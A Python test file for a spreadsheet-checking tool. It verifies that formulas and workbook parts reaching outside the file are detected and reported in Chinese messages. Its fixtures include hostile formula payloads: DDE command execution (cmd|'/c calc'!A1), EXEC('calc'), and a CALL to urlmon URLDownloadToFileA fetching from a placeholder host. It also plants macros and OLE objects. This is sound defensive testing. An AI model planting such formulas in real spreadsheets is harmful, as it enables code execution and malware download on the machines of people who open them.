"""What runs or reaches outside a workbook is told and never opened."""

from __future__ import annotations

import pytest
from hypothesis import given as each_of
from hypothesis import settings
from hypothesis import strategies as st

from tests.workbook.dress import attach, condition, element
from tests.workbook.parts import MAIN
from tests.workbook.tamper import TABLE_3, Formula, Opened, codes, filled, given, read, tampered
from xltool import api
from xltool.spreadsheet.external_links import _select_suspects, classify_link

SPEC = api.form("ogi-2021")
BOOK = "xl/workbook.xml"
PIECES = [
    *("WEBSERVICE", "webservice", "_xlfn.", "CUBE", "VALUE", "SQL.", "REQUEST", "(", " (", "\n(", ")", '"', "'", "A1"),
    *(
        "HYPERLINK",
        "hyperlink(",
        '"#',
        "INDIRECT",
        '"http://',
        "[1]",
        "[",
        "]",
        "!",
        "|",
        "x",
        "甲",
        ".",
        "_",
        " ",
        "+",
    ),
]


def message(reading, code):
    (found,) = [found for found in reading.findings if found.code == code]
    return api.message(found, SPEC)


@pytest.mark.parametrize(
    ("formula", "what"),
    [
        ('WEBSERVICE("http://a.example/"&A1)', "WEBSERVICE 函数"),
        ("_xlfn.webservice (A1)", "WEBSERVICE 函数"),
        ('FILTERXML("<a/>","/a")', "FILTERXML 函数"),
        ('_xlfn.IMAGE("http://a.example/a.png")', "IMAGE 函数"),
        ('RTD("a","","b")', "RTD 函数"),
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example","a",0,0)', "CALL 函数"),
        ('REGISTER.ID("a","b")', "REGISTER.ID 函数"),
        ('EXEC("cmd")', "EXEC 函数"),
        ('CUBEVALUE("a","b")', "CUBEVALUE 函数"),
        ("[1]Sheet1!A1+1", "外部工作簿引用"),
        ("SUM([book.xlsx]表一!A1:A3)", "外部工作簿引用"),
        ("'C:\\\\dir\\\\[book.xlsx]表 一'!$A$1", "外部工作簿引用"),
        ("[1]!name", "外部工作簿引用"),
        ("cmd|'/c calc'!A1", "DDE 链接"),
        ("MSEXCEL|'\\\\..\\\\a'!''", "DDE 链接"),
        ('HYPERLINK("http://a.example/","点")', "HYPERLINK 函数"),
        ("HYPERLINK(A1)", "HYPERLINK 函数"),
        ('HYPERLINK("#A1")&HYPERLINK("http://a.example/")', "HYPERLINK 函数"),
        ('INDIRECT("[book.xlsx]表一!A1")', "INDIRECT 函数"),
        ("INDIRECT(\"'http://a.example/[a]b'!A1\")", "INDIRECT 函数"),
        ("SUM(A1:B2)", ""),
        ('HYPERLINK("#\'表三 依申请公开\'!D6","看")', ""),
        ('INDIRECT("A"&1)', ""),
        ("SUM(Table1[列],Table1[[#This Row],[列]])", ""),
        ("Table1[[#All],[a]:[b]]", ""),
        ('"[1]Sheet1!A1|WEBSERVICE("', ""),
        ("'a|b'!A1", ""),
        ("MYIMAGE(A1)+RUNNING(1)", ""),
        ("'表三 依申请公开'!$A$1", ""),
        ("…", ""),
        ("", ""),
    ],
)
def test_what_a_formula_reaches(formula, what):
    assert classify_link(formula) == what
    assert bool(what) == any(map(classify_link, _select_suspects({formula, "SUM(A1:B2)"})))


@settings(max_examples=2_000)
@each_of(st.lists(st.lists(st.sampled_from(PIECES), max_size=6).map("".join), max_size=4))
def test_what_reaches_outside_is_among_the_suspects(formulas):
    assert any(map(classify_link, formulas)) == any(map(classify_link, _select_suspects({*formulas})))


def test_one_long_name_takes_no_longer_than_another():
    text = "甲" * 400_000
    assert [*_select_suspects({text, f"{text}[1]a!A1"})] == [f"{text}[1]a!A1"]


def test_the_formulas_of_our_own_workbooks_reach_nothing():
    for form_id in ("ogi-2021", "ogi-2019"):
        assert not codes(api.read(filled(form_id))) & {"file.outside", "file.macros"}


def formula(text, shown):
    made = Formula(text)
    made.shown = shown
    return made


def test_formulas_wherever_they_stand():
    def act(opened: Opened) -> None:
        opened.put(TABLE_3, "D6", formula("[1]Sheet1!A1", 5))
        condition(opened, TABLE_3, "E6", "", formula='WEBSERVICE("http://a.example")=1')
        rules = next(opened.sheet(TABLE_3).iter(f"{{{MAIN}}}dataValidations"))
        rules.append(
            element('<dataValidation type="custom" sqref="A1"><formula1>cmd|\'/c calc\'!A1</formula1></dataValidation>')
        )
        names = next(opened.book.iter(f"{{{MAIN}}}definedNames"))
        names.append(element('<definedName name="evil" localSheetId="0">EXEC("calc")</definedName>'))

    reading = api.read(tampered(act))
    assert codes(reading) == {"file.outside", "formula.outside"}
    text = message(reading, "file.outside")
    assert text.startswith(f"文件里有 4 处内容通往文件之外：外部工作簿引用（“{TABLE_3}”D6）、")
    for what in ("WEBSERVICE 函数（“表三 依申请公开”的条件格式或数据验证", "DDE 链接（", "EXEC 函数（名称 evil）"):
        assert what in text
    assert reading.submission.values[SPEC.index["applications.received.natural_person"]] is None
    told = message(reading, "formula.outside")
    assert told.startswith(
        "表三“本年新收”行“自然人”栏（D6）里是公式 =[1]Sheet1!A1，结果来自文件之外（外部工作簿引用），"
    )


def test_a_formula_on_an_added_sheet():
    import io

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(filled()))
    book.create_sheet("备注")["B2"] = '=HYPERLINK("http://a.example/"&A1,"点")'
    buffer = io.BytesIO()
    book.save(buffer)
    reading = api.read(buffer.getvalue())
    assert codes(reading) == {"sheet.added", "file.outside"}
    assert "HYPERLINK 函数（“备注”B2）" in message(reading, "file.outside")


EXTERNAL = f'<externalLink xmlns="{MAIN}"><{{}}/></externalLink>'


@pytest.mark.parametrize(
    ("kind", "target", "content", "what"),
    [
        ("externalLink", "/xl/externalLinks/externalLink1.xml", EXTERNAL.format("externalBook"), "外部工作簿链接"),
        ("externalLink", "/xl/externalLinks/externalLink1.xml", EXTERNAL.format("ddeLink"), "DDE 链接"),
        ("externalLink", "/xl/other.xml", EXTERNAL.format("oleLink"), "OLE 链接"),
        ("connections", "/xl/connections.xml", f'<connections xmlns="{MAIN}"/>', "数据连接"),
        ("oleObject", "/xl/embeddings/oleObject1.bin", b"\0", "嵌入的对象"),
    ],
)
def test_links(kind, target, content, what):
    reading = read(tampered(lambda opened: attach(opened, BOOK, kind, target, content)))
    assert (codes(reading), reading.submission) == ({"file.outside"}, given())
    assert f"文件里有 1 处内容通往文件之外：{what}（{target.removeprefix('/')}）；" in message(reading, "file.outside")


def test_relationships_that_point_outside():
    part = Opened(filled()).part(TABLE_3)
    reading = read(
        tampered(lambda opened: attach(opened, part, "image", "http://a.example/a.png", None, external=True))
    )
    assert "外部关系" in message(reading, "file.outside")
    plain = tampered(lambda opened: attach(opened, part, "hyperlink", "http://a.example/", None, external=True))
    assert codes(read(plain)) == set()
    other = tampered(lambda opened: attach(opened, "xl/theme/theme1.xml", "image", "file:///a", None, external=True))
    assert codes(read(other)) == {"file.outside"}


@pytest.mark.parametrize(
    ("kind", "target", "what"),
    [
        ("vbaProject", "/xl/vbaProject.bin", "VBA 宏"),
        ("vbaProject", "/xl/picture.bin", "VBA 宏"),
        ("other", "/xl/x/vbaProject.bin", "VBA 宏"),
        ("xlMacrosheet", "/xl/macrosheets/sheet1.xml", "宏表"),
        ("control", "/xl/activeX/activeX1.xml", "控件"),
    ],
)
def test_macros(kind, target, what):
    reading = read(tampered(lambda opened: attach(opened, BOOK, kind, target, "<a/>")))
    assert (codes(reading), reading.submission) == ({"file.macros"}, given())
    assert what in message(reading, "file.macros")
    assert api.fill(reading.submission) == filled()


def test_the_type_of_a_file_with_macros():
    def act(opened: Opened) -> None:
        types = opened.parts["[Content_Types].xml"].decode()
        opened.parts["[Content_Types].xml"] = types.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ).encode()

    assert codes(read(tampered(act))) == {"file.macro_kind"}
    both = read(tampered(act, lambda opened: attach(opened, BOOK, "vbaProject", "/xl/vbaProject.bin", b"\0")))
    assert codes(both) == {"file.macros"}


def test_custom_xml_is_nobodys_business():
    assert (
        codes(read(tampered(lambda opened: attach(opened, BOOK, "customXml", "/customXml/item1.xml", "<a/>")))) == set()
    )


def test_many_are_counted_and_the_first_are_named():
    def act(opened: Opened) -> None:
        for row in range(6, 16):
            opened.put(TABLE_3, f"D{row}", formula(f"[1]a!A{row}", 1))

    text = message(api.read(tampered(act)), "file.outside")
    assert text.startswith("文件里有 10 处内容通往文件之外：")
    assert (text.count("外部工作簿引用"), " 等；" in text) == (4, True)
